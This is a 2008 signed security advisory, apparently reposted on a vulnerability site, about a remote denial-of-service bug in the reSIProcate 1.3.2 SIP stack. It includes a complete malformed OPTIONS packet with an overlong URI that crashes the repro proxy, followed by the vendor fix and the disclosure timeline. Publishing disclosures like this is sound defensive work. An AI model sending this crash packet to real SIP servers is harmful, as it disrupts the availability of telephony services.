reSIProcate 1.3.2 Remote Denial of Service PoC

Risk: Low
Local: No
Remote: Yes

CVSS Base Score: 5/10
Impact Subscore: 2.9/10
Exploitability Subscore: 10/10
Exploit range: Remote
Attack complexity: Low
Authentication: No required
Confidentiality impact: None
Integrity impact: None
Availability impact: Partial-----BEGIN PGP SIGNED MESSAGE----- Hash: SHA1 Remote DoS in reSIProcate [MU-200807-01] July 10, 2008 Affected Products/Versions: * repro SIP proxy/registrar 1.3.2 * Any product using the reSIProcate SIP stack 1.3.2 may also be vulnerable. Product Overview: reSIProcate is a SIP stack. SIP is a protocol used for voice-over-IP telephony. repro is a SIP proxy/registrar that uses the reSIProcate SIP stack. Vulnerability Details: A malformed INVITE or OPTIONS message to the repro SIP proxy/registrar can crash the process. The crash is caused by an assertion failure that occurs when the domain name in the request line URI is too long (rutil/dns/DnsStub.cxx, line 493). For example, the URI may be "sip:bob@example.comAAAAAAA...", where "" is followed by 256 As. To cause the crash, the address in the To header must be a valid target address. Example invalid packet: OPTIONS sip:bob@example.comAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA SIP/2.0 Via: SIP/2.0/UDP;branch=z9hG4bKZqPsHMEiem;rport To: "Bob" <> From: "Alice"<>;tag=W4eHvLYEQX Call-ID: CSeq: 1 OPTIONS Contact: <sip:alice@> Max-Forwards: 70 Content-Length: 0 Vendor Response / Solution: Update to 1.3.3, available from This bug was also fixed by the reSIProcate development team in SVN on April 23 (revision 7628). History: July 1, 2008 - First contact with vendor July 1, 2008 - Vendor acknowledges vulnerability July 3, 2008 - Vendor releases 1.3.3 July 10, 2008 - Advisory released Mu-4000 vector: *.request-line.line.dsv.uri.body.string.append-overflow Credit: This vulnerability was discovered by the Mu Dynamics research team. Mu Dynamics offers a new class of security analysis system, delivering a rigorous and streamlined methodology for verifying therobustness and security readiness of any IP-based product or application. Founded by the pioneers of intrusion detection and prevention technology, Mu Dynamics is backed by preeminent venture capital firms that include Accel Partners, Benchmark Capital and DAG Ventures. The company is headquartered in Sunnyvale, CA. For more information, visit the company's website at -----BEGIN PGP SIGNATURE----- Version: GnuPG v1.4.7 (Darwin) iD8DBQFIdqOZQLdDlEyOXHQRAvt+AJsHGgqEVoiQi0Nb7ND9CR7HteZJpgCeMgKv 5lqpYSLdj7WBeXoD4l95+WA= =KUQC -----END PGP SIGNATURE-----


Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 |date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{x.comment }}

Copyright 2021,


Back to Top